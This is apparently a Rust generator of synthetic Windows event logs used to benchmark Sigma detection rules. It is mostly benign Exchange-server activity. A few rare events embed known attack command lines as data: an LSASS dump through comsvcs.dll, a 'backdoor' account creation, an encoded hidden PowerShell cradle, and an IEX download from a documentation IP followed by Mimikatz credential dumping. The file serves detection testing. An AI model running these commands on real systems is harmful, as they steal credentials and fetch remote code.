//! A seeded mix of Windows endpoint events for the Sigma benchmark: Sysmon 1/3/7/11/13, Security
//! 4624/4688/4663 and PowerShell 4104, in the proportions of a busy server, with values drawn
//! from pools of real Windows paths, command lines, registry keys and addresses. Nearly all of it
//! is benign; a few events per file carry well-known attack traces, so rules do fire.

use crate::evtx::{EventData, EventSpec, write_file};
use crate::generator::rng::Rng;
use std::io;
use std::path::{Path, PathBuf};

/// What to write.
#[derive(Clone, Debug)]
pub struct MixSpec {
    pub seed: u64,
    /// Events in all.
    pub events: u64,
    /// EVTX files to spread them over (one channel per file, like real logs).
    pub files: usize,
    pub computer: String,
}

impl Default for MixSpec {
    fn default() -> Self {
        MixSpec { seed: 1, events: 100_000, files: 40, computer: "EX01.contoso.local".into() }
    }
}

/// What was written.
#[derive(Clone, Debug, Default)]
pub struct MixStats {
    pub events: u64,
    pub files: Vec<PathBuf>,
}

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const SYSMON_PROVIDER: &str = "Microsoft-Windows-Sysmon";
const SECURITY_PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
const PS: &str = "Microsoft-Windows-PowerShell/Operational";

const IMAGES: &[&str] = &[
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\inetsrv\w3wp.exe",
    r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeHMWorker.exe",
    r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\Microsoft.Exchange.Store.Worker.exe",
    r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\PopImap\Microsoft.Exchange.Imap4.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Program Files\Windows Defender\MsMpEng.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\lsass.exe",
    r"C:\Windows\System32\services.exe",
    r"C:\Windows\System32\msiexec.exe",
    r"C:\Windows\System32\net.exe",
];

const COMMANDS: &[&str] = &[
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    r"c:\windows\system32\inetsrv\w3wp.exe -ap MSExchangeOWAAppPool -v v4.0 -c ...\Apppools\MSExchangeOWAAppPool.config",
    r#""C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeHMWorker.exe" -workerListening"#,
    r"powershell.exe -NoProfile -Command Get-ExchangeServer | Test-ServiceHealth",
    r"C:\Windows\system32\taskhostw.exe KEYROAMING",
    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    r"cmd.exe /c echo checking",
    r"C:\Windows\system32\msiexec.exe /V",
    r"net.exe use",
];

/// Attack traces SigmaHQ rules know (a small share of events).
const BAD_COMMANDS: &[(&str, &str)] = &[
    (r"C:\Windows\System32\cmd.exe", r#"cmd /c "whoami /all""#),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\root\lsass.dmp full",
    ),
    (r"C:\Windows\System32\net.exe", r"net user /add backdoor P@ssw0rd!"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
];

const DLLS: &[&str] = &[
    r"C:\Windows\System32\ntdll.dll",
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\KernelBase.dll",
    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll",
    r"C:\Windows\System32\advapi32.dll",
    r"C:\Windows\System32\crypt32.dll",
    r"C:\Windows\System32\ws2_32.dll",
];

const FILES: &[&str] = &[
    r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Owa\HttpProxy_2021030306-1.LOG",
    r"C:\Windows\Temp\tmp4A21.tmp",
    r"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\data\Queue\mail.que",
    r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex210303.log",
    r"C:\Windows\ServiceProfiles\NetworkService\AppData\Local\Temp\x.tmp",
];

const REG_KEYS: &[&str] = &[
    r"HKLM\System\CurrentControlSet\Services\MSExchangeIS\Parameters\Status",
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\Shell Folders\Common AppData",
    r"HKU\.DEFAULT\Software\Microsoft\Windows\CurrentVersion\Internet Settings\Connections\DefaultConnectionSettings",
    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-18\x",
];

const SCRIPTS: &[&str] = &[
    "Get-ExchangeServer | Select-Object Name, AdminDisplayVersion",
    "Test-ServiceHealth -Server $env:COMPUTERNAME",
    "Get-MailboxDatabaseCopyStatus * | Format-Table",
    "$ErrorActionPreference = 'Stop'; Import-Module ActiveDirectory",
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10",
];

fn pick<'a>(rng: &mut Rng, pool: &[&'a str]) -> &'a str {
    pool[rng.below(pool.len() as u64) as usize]
}

fn named(pairs: Vec<(&str, String)>) -> EventData {
    EventData::Named(pairs.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
}

fn ip(rng: &mut Rng) -> String {
    format!("10.{}.{}.{}", rng.below(4), rng.below(255), 1 + rng.below(250))
}

fn guid(rng: &mut Rng) -> String {
    let a = rng.next_u64();
    let b = rng.next_u64();
    format!(
        "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
        a >> 32,
        (a >> 16) & 0xFFFF,
        a & 0xFFFF,
        b >> 48,
        b & 0xFFFF_FFFF_FFFF
    )
}

/// The event kinds of the mix, with their weights (per 100 events).
const KINDS: &[(Kind, u64)] = &[
    (Kind::Sysmon(1), 14),
    (Kind::Sysmon(3), 14),
    (Kind::Sysmon(7), 20),
    (Kind::Sysmon(11), 10),
    (Kind::Sysmon(13), 10),
    (Kind::Security(4624), 11),
    (Kind::Security(4688), 8),
    (Kind::Security(4663), 8),
    (Kind::PowerShell(4104), 5),
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Sysmon(u16),
    Security(u16),
    PowerShell(u16),
}

fn event(kind: Kind, rng: &mut Rng, time_ms: i64, computer: &str) -> EventSpec {
    let bad = rng.below(2000) == 0;
    let (image, cmd) = if bad {
        let (i, c) = BAD_COMMANDS[rng.below(BAD_COMMANDS.len() as u64) as usize];
        (i.to_string(), c.to_string())
    } else {
        let i = rng.below(IMAGES.len() as u64) as usize;
        (IMAGES[i].to_string(), COMMANDS[i % COMMANDS.len()].to_string())
    };
    let pid = (4 + rng.below(12_000) * 4).to_string();
    let base = |provider: &str, channel: &str, id: u16, data: EventData| EventSpec {
        provider: provider.into(),
        event_id: id,
        level: 4,
        time_ms,
        channel: channel.into(),
        computer: computer.into(),
        user_sid: Some("S-1-5-18".into()),
        data,
        ..EventSpec::default()
    };
    // Every Sysmon event names the rule, the process and its image first.
    let sysmon = |id: u16, rng: &mut Rng, image: String, rest: Vec<(&str, String)>| {
        let mut fields = vec![
            ("RuleName", "-".to_string()),
            ("ProcessGuid", guid(rng)),
            ("ProcessId", pid.clone()),
            ("Image", image),
        ];
        fields.extend(rest);
        base(SYSMON_PROVIDER, SYSMON, id, named(fields))
    };
    match kind {
        Kind::Sysmon(1) => {
            let rest = vec![
                ("UtcTime", String::new()),
                ("FileVersion", "10.0.17763.1 (WinBuild.160101.0800)".into()),
                ("Description", "Windows host process".into()),
                ("Product", "Microsoft® Windows® Operating System".into()),
                ("Company", "Microsoft Corporation".into()),
                ("OriginalFileName", image.rsplit('\\').next().unwrap_or("").to_string()),
                ("CommandLine", cmd),
                ("CurrentDirectory", r"C:\Windows\system32\".into()),
                ("User", r"NT AUTHORITY\SYSTEM".into()),
                ("LogonId", "0x3e7".into()),
                ("IntegrityLevel", "System".into()),
                ("Hashes", format!("SHA256={:016X}{:016X}", rng.next_u64(), rng.next_u64())),
                ("ParentProcessId", "624".into()),
                ("ParentImage", pick(rng, IMAGES).to_string()),
                ("ParentCommandLine", pick(rng, COMMANDS).to_string()),
            ];
            sysmon(1, rng, image, rest)
        }
        Kind::Sysmon(3) => {
            let rest = vec![
                ("User", r"NT AUTHORITY\NETWORK SERVICE".into()),
                ("Protocol", "tcp".into()),
                ("Initiated", "true".into()),
                ("SourceIp", ip(rng)),
                ("SourcePort", (49152 + rng.below(16000)).to_string()),
                ("DestinationIp", ip(rng)),
                ("DestinationPort", ["443", "445", "389", "88", "3268", "135"][rng.below(6) as usize].into()),
                ("DestinationHostname", "dc01.contoso.local".into()),
            ];
            sysmon(3, rng, image, rest)
        }
        Kind::Sysmon(7) => {
            let rest = vec![
                ("ImageLoaded", pick(rng, DLLS).to_string()),
                ("Signed", "true".into()),
                ("Signature", "Microsoft Windows".into()),
                ("SignatureStatus", "Valid".into()),
            ];
            sysmon(7, rng, image, rest)
        }
        Kind::Sysmon(11) => {
            let rest = vec![
                ("TargetFilename", pick(rng, FILES).to_string()),
                ("CreationUtcTime", "2021-03-03 06:00:00.000".into()),
            ];
            sysmon(11, rng, image, rest)
        }
        Kind::Sysmon(_) => {
            let rest = vec![
                ("EventType", "SetValue".into()),
                ("TargetObject", pick(rng, REG_KEYS).to_string()),
                ("Details", format!("DWORD (0x{:08x})", rng.below(16))),
            ];
            sysmon(13, rng, image, rest)
        }
        Kind::Security(4624) => base(
            SECURITY_PROVIDER,
            "Security",
            4624,
            named(vec![
                ("SubjectUserSid", "S-1-5-18".into()),
                ("SubjectUserName", "EX01$".into()),
                ("SubjectDomainName", "CONTOSO".into()),
                ("TargetUserName", ["HealthMailbox1a2b", "svc-backup", "alice", "EX01$"][rng.below(4) as usize].into()),
                ("TargetDomainName", "CONTOSO".into()),
                ("LogonType", ["3", "3", "3", "5", "10"][rng.below(5) as usize].into()),
                ("LogonProcessName", "Kerberos".into()),
                ("AuthenticationPackageName", "Kerberos".into()),
                ("WorkstationName", "-".into()),
                ("IpAddress", ip(rng)),
                ("IpPort", "0".into()),
            ]),
        ),
        Kind::Security(4688) => base(
            SECURITY_PROVIDER,
            "Security",
            4688,
            named(vec![
                ("SubjectUserSid", "S-1-5-18".into()),
                ("SubjectUserName", "EX01$".into()),
                ("SubjectDomainName", "CONTOSO".into()),
                ("SubjectLogonId", "0x3e7".into()),
                ("NewProcessId", format!("0x{:x}", rng.below(60_000))),
                ("NewProcessName", image),
                ("TokenElevationType", "%%1936".into()),
                ("ProcessId", "0x270".into()),
                ("CommandLine", cmd),
                ("ParentProcessName", pick(rng, IMAGES).to_string()),
                ("MandatoryLabel", "S-1-16-16384".into()),
            ]),
        ),
        Kind::Security(_) => base(
            SECURITY_PROVIDER,
            "Security",
            4663,
            named(vec![
                ("SubjectUserSid", "S-1-5-18".into()),
                ("SubjectUserName", "EX01$".into()),
                ("ObjectServer", "Security".into()),
                ("ObjectType", "File".into()),
                ("ObjectName", pick(rng, FILES).to_string()),
                ("AccessList", "%%4416".into()),
                ("AccessMask", "0x1".into()),
                ("ProcessName", image),
            ]),
        ),
        Kind::PowerShell(_) => base(
            "Microsoft-Windows-PowerShell",
            PS,
            4104,
            named(vec![
                ("MessageNumber", "1".into()),
                ("MessageTotal", "1".into()),
                (
                    "ScriptBlockText",
                    if bad {
                        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1'); Invoke-Mimikatz -DumpCreds".into()
                    } else {
                        pick(rng, SCRIPTS).to_string()
                    },
                ),
                ("ScriptBlockId", guid(rng)),
                ("Path", String::new()),
            ]),
        ),
    }
}

/// Which channel file a kind goes to.
fn channel_slot(kind: Kind) -> usize {
    match kind {
        Kind::Sysmon(_) => 0,
        Kind::Security(_) => 1,
        Kind::PowerShell(_) => 2,
    }
}

/// Writes the mix into `dir` as `files` EVTX files (Sysmon, Security and PowerShell files in turn).
pub fn write_mix(dir: &Path, spec: &MixSpec) -> io::Result<MixStats> {
    std::fs::create_dir_all(dir)?;
    let files = spec.files.max(3);
    let per_file = spec.events.div_ceil(files as u64);
    let total_weight: u64 = KINDS.iter().map(|(_, w)| w).sum();
    let mut stats = MixStats::default();
    let mut written = 0u64;
    for f in 0..files {
        let slot = f % 3;
        let kinds: Vec<(Kind, u64)> = KINDS.iter().copied().filter(|(k, _)| channel_slot(*k) == slot).collect();
        let slot_weight: u64 = kinds.iter().map(|(_, w)| w).sum();
        // Each file holds its channel's share of the events.
        let n = (per_file * 3 * slot_weight / total_weight).min(spec.events.saturating_sub(written)).max(1);
        let mut rng = Rng::stream(spec.seed, &[f as u64]);
        let name = ["Sysmon", "Security", "PowerShell"][slot];
        let path = dir.join(format!("{name}-{f:04}.evtx"));
        let start = 1_614_729_600_000 + f as i64 * 60_000;
        let computer = spec.computer.clone();
        let events = (0..n).map(move |i| {
            let mut r = rng.below(slot_weight);
            let kind = kinds
                .iter()
                .find(|(_, w)| {
                    if r < *w {
                        true
                    } else {
                        r -= w;
                        false
                    }
                })
                .map(|(k, _)| *k)
                .unwrap_or(kinds[0].0);
            event(kind, &mut rng, start + i as i64 * 37, &computer)
        });
        written += write_file(&path, events)?;
        stats.files.push(path);
    }
    stats.events = written;
    Ok(stats)
}
